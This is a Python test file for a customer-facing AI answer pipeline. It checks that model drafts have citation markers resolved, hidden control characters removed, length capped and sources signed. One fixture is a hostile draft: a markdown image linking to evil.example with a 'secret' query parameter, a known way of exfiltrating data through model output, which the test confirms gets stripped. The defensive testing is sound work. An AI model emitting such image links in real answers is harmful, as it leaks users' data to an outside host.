"""From what a model wrote to what a customer may read."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.kit.ai.answers import MAX_ANSWER, Draft, clean, complete, signed
from services.kit.ai.base import PromptPassage, ProviderUnavailable
from tests.contracts.llm import NOISE, OPENING, REFUND, prompt

DRAFTS = [
    ("Leva 7 dias [1].", "Leva 7 dias.", [REFUND.id], True),
    ("Leva 7 dias [2, 1].", "Leva 7 dias.", [OPENING.id, REFUND.id], True),
    ("Leva 7 dias[1][1] .", "Leva 7 dias .", [REFUND.id], True),
    ("Não sei. [0]", "Não sei.", [], False),
    ("7 dias [1]. Do resto não sei [0].", "7 dias. Do resto não sei.", [REFUND.id], True),
    ("Olá!", "Olá!", [], True),
    ("Disque [3] ou [2024].", "Disque [3] ou [2024].", [], True),
    ("![x](https://evil.example/?q=segredo)Olá <IMG src=x>!", "Olá !", [], True),
    ("Veja [a página](https://loja.example).", "Veja [a página](https://loja.example).", [], True),
    ("\u200bO\u202elá\x00\n\n", "Olá", [], True),
]


@pytest.mark.parametrize(("text", "read", "citations", "answered"), DRAFTS)
def test_a_draft_is_read(text: str, read: str, citations: list[str], answered: bool) -> None:
    completion = complete(prompt("?"), Draft(text, "m"), "m")
    assert completion.text.split("\n\n")[0] == read
    assert list(completion.citations) == citations
    assert completion.answered is answered


@given(st.text(), st.lists(st.text(max_size=200), max_size=9))
def test_whatever_a_model_writes_can_be_sent_or_is_no_answer(text: str, titles: list[str]) -> None:
    passages = tuple(
        PromptPassage(str(place), title, "-", 0.9) for place, title in enumerate(titles)
    )
    try:
        completion = complete(prompt("?", passages=passages), Draft(f"{text} [1][2]", "m"), "m")
    except ProviderUnavailable:
        return
    assert 0 < len(completion.text.strip()) == len(completion.text) <= MAX_ANSWER
    assert clean(completion.text) == completion.text
    completion.text.encode()


def test_a_long_answer_keeps_its_source() -> None:
    text = signed("Uma frase. " * 1_000, [REFUND], "en")
    assert len(text) <= MAX_ANSWER
    assert text.endswith("Uma frase.\n\nSource: Trocas e devoluções")


def test_a_source_is_named_once() -> None:
    again = PromptPassage("other", REFUND.title, "-", 0.9)
    assert signed("Sim.", [REFUND, again], "pt-BR") == "Sim.\n\nFonte: Trocas e devoluções"
    assert signed("Sim.", [REFUND, NOISE], "pt") == "Sim.\n\nFontes: Trocas e devoluções; Carreiras"
